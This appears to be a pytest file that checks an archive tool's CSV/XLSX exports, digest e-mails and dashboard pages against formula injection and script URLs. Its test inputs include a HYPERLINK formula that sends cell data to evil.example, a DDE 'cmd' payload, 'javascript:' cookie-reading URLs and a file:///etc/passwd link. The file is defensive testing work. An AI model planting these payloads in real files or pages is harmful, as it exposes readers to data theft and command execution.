"""Exports and mail that cannot be turned against their reader (store.outbound), at every place we write them.

Every CSV and XLSX writer gets names that a spreadsheet would run as formulas (`=HYPERLINK(…)`, `+…`,
`-…`, `@…`, a tab, a carriage return): none may come back as one. Every place a URL becomes a link — the
digest e-mail's report and dashboard links, the dashboard's report and portal pages — gets a
`javascript:` URL: it must be shown as text, never an href, while an http(s) URL stays a link.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from conftest import FIXTURES
from openpyxl import load_workbook
from sqlalchemy import select
from starlette.testclient import TestClient

from alerts.digest import compose
from alerts.routing import Letterhead
from analytics.document import Document, Heading, Num, Paragraph, Table
from analytics.render.plain import to_csv as table_csv
from analytics.render.xlsx import to_xlsx as document_xlsx
from config.settings import Settings
from store import export
from store.db import Archive
from store.models import Agency, Alert, Portal
from store.outbound import csv_cell, formula_like, link_href
from web import accounts
from web.app import create_app
from xxgk.cli import main

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=1+1", "+86 10 12345678", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
HARMLESS = ["湘乡市民政局", "-12.5%", "+3", "-7", "1,234.5", "—", "a=b", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_recognised(text: str) -> None:
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_text_and_numbers_are_left_alone(text: str) -> None:
    assert not formula_like(text)
    assert csv_cell(text) == text


# ---- every CSV and XLSX writer ---------------------------------------------------------------------------

def _rows() -> list[dict[str, Any]]:
    return [{"agency": text, "level": "county", "region": "430381", "year": 2025, "status": "missing",
             "deadline": "2026-03-31", "url": text} for text in HOSTILE]


def _table() -> Table:
    return Table("hostile", HOSTILE[0], [HOSTILE[1], "单位", "数值"],
                 [[text, text, Num(-0.125, "ratio")] for text in HOSTILE])


def _document() -> Document:
    return Document(HOSTILE[0], HOSTILE[2], [Heading(HOSTILE[3]), Paragraph(HOSTILE[4]), _table()])


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


CSV_WRITERS: dict[str, Callable[[], bytes]] = {
    "store.export.to_csv (xxgk query, the dashboard's export.csv)": lambda: export.to_csv(_rows()),
    "analytics.render.plain.to_csv (xxgk stats --format csv)": lambda: table_csv(_table()),
}
XLSX_WRITERS: dict[str, Callable[[], bytes]] = {
    "store.export.to_xlsx (xxgk query, the dashboard's export.xlsx)": lambda: export.to_xlsx(_rows(), "年报"),
    "analytics.render.xlsx.to_xlsx (reports, xxgk stats --format xlsx)": lambda: document_xlsx(_document()),
}


@pytest.mark.parametrize("writer", sorted(CSV_WRITERS))
def test_no_csv_cell_is_a_formula(writer: str) -> None:
    cells = _csv_cells(CSV_WRITERS[writer]())
    assert [c for c in cells if formula_like(c)] == []
    assert {c for c in cells if c[1:] in HOSTILE} == {"'" + text for text in HOSTILE}
    if writer.startswith("analytics"):
        assert "-12.5%" in cells  # a number stays one


@pytest.mark.parametrize("writer", sorted(XLSX_WRITERS))
def test_no_xlsx_cell_is_a_formula(writer: str) -> None:
    cells = _xlsx_cells(XLSX_WRITERS[writer]())
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if c.value in HOSTILE]
    assert {c.value for c in hostile} == set(HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


# ---- every place a URL becomes a link --------------------------------------------------------------------

EVIL = "javascript:alert(document.cookie)"
SNEAKY = [EVIL, " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
          "file:///etc/passwd", "vbscript:msgbox(1)", "//evil.example/x", "http:alert(1)"]
GOOD = "https://www.xiangxiang.gov.cn/zwgk/nb/1.html"


@pytest.mark.parametrize("url", SNEAKY)
def test_only_http_urls_are_links(url: str) -> None:
    assert link_href(url) is None
    assert link_href(GOOD) == GOOD
    assert link_href("http://127.0.0.1:8080/a") == "http://127.0.0.1:8080/a"


def _digest(url: str, dashboard: str) -> str:
    alert = Alert(id=1, kind="late_report", dedupe_key="late_report:湘乡市民政局:2025", recipients=["a@b.cn"],
                  report_id=7, payload={"fact": {"agency": "湘乡市民政局", "year": 2025, "published": "2026-04-02",
                                                 "days": 2, "url": url}})
    return compose("a@b.cn", "daily", [alert], dt.date(2026, 4, 10), Letterhead(dashboard_url=dashboard)).html


def _hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


LINK_SITES: dict[str, Callable[[str], str]] = {
    "digest: the report's link": lambda url: _digest(url, "https://xxgk.example.gov.cn/"),
    "digest: the dashboard's links": lambda url: _digest(GOOD, url),
}


@pytest.mark.parametrize("site", sorted(LINK_SITES))
@pytest.mark.parametrize("url", SNEAKY)
def test_a_mail_link_is_never_a_script(site: str, url: str) -> None:
    assert [h for h in _hrefs(LINK_SITES[site](url)) if link_href(h.replace("&amp;", "&")) is None] == []
    assert any(h.startswith("https://www.xiangxiang.gov.cn/") for h in _hrefs(LINK_SITES[site](GOOD)))


def test_a_mail_shows_a_refused_url_as_text() -> None:
    html = _digest(EVIL, "https://xxgk.example.gov.cn/")
    assert "javascript:alert(document.cookie)" in html
    assert GOOD in _hrefs(_digest(GOOD, "https://xxgk.example.gov.cn/"))


# the dashboard: a report imported with --url, a portal whose address reached the archive
PASSWORD = "correct-horse-1"


@pytest.fixture(scope="module")
def dashboard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, dict[str, int]]]:
    work = tmp_path_factory.mktemp("links")
    url = f"sqlite:///{work / 'archive.sqlite3'}"
    seeds = sorted((FIXTURES / "seeds").glob("*.txt"))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XXGK_SNAPSHOTS", str(work / "snapshots"))
        for seed, link in ((seeds[0], EVIL), (seeds[2], GOOD)):
            assert main(["import", str(seed), "--url", link, "--region", "430381", "--db", url]) == 0
        with Archive.open(url) as archive:
            with archive.write() as session:
                accounts.add(session, "viewer", PASSWORD, "viewer", [])
                ids: dict[str, int] = {}
                for key, base in (("evil", EVIL), ("good", GOOD)):
                    portal = Portal(key=key, name=f"{key} 门户", base_url=base, columns=[])
                    session.add(portal)
                    session.flush()
                    ids[key] = portal.id
                agencies = list(session.scalars(select(Agency).order_by(Agency.id)))
                for agency, key in zip(agencies, ("evil", "good"), strict=False):
                    agency.portal_id = ids[key]
                pages = {"agency-evil": agencies[0].id, "agency-good": agencies[1].id}
            settings = Settings.load(argparse.Namespace(db=url, as_of="2026-04-20"))
            with TestClient(create_app(archive, settings, secret="test-secret")) as http:
                page = http.get("/login").text
                csrf = re.search(r'name="csrf" value="([^"]+)"', page)
                assert csrf is not None
                http.post("/login", data={"username": "viewer", "password": PASSWORD, "csrf": csrf.group(1)})
                yield http, pages


def _report_pages(http: TestClient) -> list[str]:
    return [http.get(f"/report/{n}").text for n in (1, 2)]


def test_the_dashboard_never_links_a_script(dashboard: tuple[TestClient, dict[str, int]]) -> None:
    http, agencies = dashboard
    pages = _report_pages(http) + [http.get(f"/agency/{n}").text for n in agencies.values()]
    hrefs = [h for page in pages for h in _hrefs(page)]
    assert [h for h in hrefs if h.startswith(("/", "?", "#")) is False and link_href(h) is None] == []
    assert sum(EVIL in page for page in pages) == 2  # shown, as text, on the report's page and the portal's
    assert hrefs.count(GOOD) == 2  # the http one is a link on both
